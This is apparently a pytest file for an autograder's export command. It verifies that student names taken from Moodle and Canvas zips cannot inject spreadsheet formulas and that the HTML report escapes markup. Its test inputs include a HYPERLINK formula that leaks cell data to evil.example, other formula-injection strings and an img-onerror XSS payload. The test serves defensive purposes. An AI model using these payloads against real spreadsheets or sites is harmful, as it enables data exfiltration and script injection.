"""``export`` writes CSV files that are safe to open in a spreadsheet (no formula injection) and still import.

The students come from real LMS zips through the real ``collect`` CLI, with
the names of the issue (``=HYPERLINK(...)``, ``@SUM(1+1)``, ``+1+1``,
``-2+3``, a tab before ``=1``); the results store is filled with results of
the shape the driver stores, and ``export`` runs through the real CLI.
"""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from autograder.rebuild import grade_cells
from autograder.store import ResultsStore

ROOT = Path(__file__).resolve().parent.parent
COURSE = ROOT / "assignments"
A1 = "a1_backprop_by_hand"
CELLS = grade_cells(json.loads((COURSE / "source" / A1 / f"{A1}.ipynb").read_text()))
EVIL = ['=HYPERLINK("https:\\\\evil.example?x="&A1,"click")', "@SUM(1+1)", "+1+1", "-2+3", "\t=1", "\r=2"]
DANGER = ("=", "+", "-", "@", "\t", "\r")


def _nb() -> bytes:
    return json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def _cli(course: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "autograder", "--course", str(course), *args], check=False,
                          capture_output=True, text=True, cwd=ROOT, timeout=600)


def _result(student: str, status: str = "graded") -> dict:
    cells = [{"grade_id": c["grade_id"], "max_score": c["points"], "auto": c["auto"],
              "score": float(c["points"]) if c["auto"] else None, "message": "", "statuses": {}} for c in CELLS]
    return {"assignment": A1, "student": student, "key": "k-" + student, "status": status,
            "reason": '<img src=x onerror=alert(1)> =1+1', "notes": [], "cells": cells,
            "score": sum(c["score"] or 0.0 for c in cells), "max_score": 1.0, "seconds": 1.0}


def _rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_lms_names_cannot_inject_formulas_and_rows_still_match(tmp_path):
    course = tmp_path / "course"
    (course / "source").mkdir(parents=True)
    shutil.copy(COURSE / "nbgrader_config.py", course)
    shutil.copytree(COURSE / "source" / A1, course / "source" / A1)
    moodle, canvas, folder = tmp_path / "moodle.zip", tmp_path / "canvas.zip", tmp_path / "folder"
    with zipfile.ZipFile(moodle, "w") as zf:
        for i, name in enumerate(EVIL):
            zf.writestr(f"{name}_{101 + i}_assignsubmission_file_/{A1}.ipynb", _nb())
    with zipfile.ZipFile(canvas, "w") as zf:
        for i, name in enumerate(n for n in EVIL if "_" not in n):
            zf.writestr(f"{name}_{7001 + i}_9001_{A1}.ipynb", _nb())
    folder.mkdir()
    (folder / "-2+3.ipynb").write_bytes(_nb())  # a folder id that itself starts with "-"
    (folder / "@me.ipynb").write_bytes(_nb())
    for source in (moodle, canvas, folder):
        proc = _cli(course, "collect", A1, str(source))
        assert proc.returncode == 0, proc.stdout + proc.stderr
    students = sorted(p.name for p in (course / "submitted").iterdir())
    assert {"101", "7001", "-2+3", "@me"} <= set(students)
    with ResultsStore(course / "autograded" / ".autograder" / "results.sqlite") as store:
        for s in students:
            store.put(_result(s, "timeout" if s == "-2+3" else "graded"))
    out = tmp_path / "out"
    proc = _cli(course, "export", A1, "--out", str(out))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    files = [out / "grades.csv", out / "canvas_grades.csv", out / f"moodle_{A1}.csv"]
    for path in files:
        for row in _rows(path):
            for cell in row:
                if cell.startswith(DANGER):
                    float(cell)  # only a plain number may start so (a score is never a formula)
    moodle_rows = _rows(out / f"moodle_{A1}.csv")[1:]
    by_id = {r[0]: r[1] for r in moodle_rows}
    for i, name in enumerate(EVIL):  # the name is kept, behind the quote; Moodle matches by Identifier
        assert by_id[f"Participant {101 + i}"] == "'" + name
    canvas_rows = _rows(out / "canvas_grades.csv")[1:]
    assert {r[1] for r in canvas_rows} >= {str(7001 + i) for i in range(4)}  # Canvas's ID column unchanged
    assert next(r for r in canvas_rows if r[1] == "7001")[0] == "'" + EVIL[0]
    ids = {r[0] for r in _rows(out / "grades.csv")[1:]}
    assert "'-2+3" in ids and "'@me" in ids and "101" in ids
    page = (out / "report.html").read_text()
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt; =1+1" in page  # escaped, as text
